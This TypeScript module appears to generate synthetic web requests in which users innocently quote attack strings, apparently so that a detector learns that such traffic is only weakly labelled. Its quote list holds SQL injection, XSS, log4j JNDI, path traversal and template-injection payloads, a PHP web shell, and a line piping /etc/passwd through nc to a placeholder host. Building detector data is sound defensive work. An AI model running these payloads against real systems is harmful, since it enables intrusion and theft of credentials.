/**
 * People who talk about attacks and quote one whole, or paste active HTML. Innocent, but byte for byte what an
 * attacker sends, so the label counts as weak.
 * @module
 */
import { type Draft, type Family, get, json } from "./draft.ts";
import { filled, sentence } from "./prose.ts";
import type { Random } from "./random.ts";

const QUOTES = [
  "Why does `SELECT * FROM {n}s WHERE id = 1 OR 1=1` return every row?",
  "the docs say ' OR '1'='1 is the classic example of SQL injection, never concatenate!",
  'use <script type="module" src="/{n}.js"></script> instead of <script>, and don\'t put onclick="x()" on a <div>',
  "what does ${jndi:ldap://{h}/{n}} mean in the log4j advisory? we're on 2.17",
  "The regex /<[^>]+>/g strips tags, but <img src=x onerror=alert({i})> gets past naive filters",
  'Does `document.cookie` work in a sandboxed <iframe src="https://{h}">? javascript:alert({j}) links don\'t',
  "EXPLAIN ANALYZE SELECT * FROM {n}s WHERE name LIKE '%{n}%' OR 1=1;",
  "<Button onClick={() => set{n}(x => x + {j})} style={{ color: 'red' }}>{count}</Button>",
  '<script src="https://{h}/{n}.js" defer></script>\n<div id="{n}" onclick="toggle()">Hi</div>',
  "our WAF blocked ../../../../etc/passwd and {{7*7}} from {n} today, nice",
  "someone posted `; cat /etc/passwd | nc {h} {k}` in the {n} form",
  "<?php system($_GET['{n}']); ?> was in the uploads folder, we're rebuilding {h}",
  "awk -F: '{print $1}' /etc/passwd | sort | head -{j} lists the users",
] as const;

function draft(random: Random): Draft {
  const text = filled(random, random.part(QUOTES));
  if (random.chance(0.3)) return get("/search", { q: text });
  return json("POST", "/api/messages", { subject: sentence(random), text: `${sentence(random)}\n\n${text}` });
}

/** Quoted attacks. */
export const quoted: Family = { name: "quoted-attack", weight: 3, q: "weak", draft };
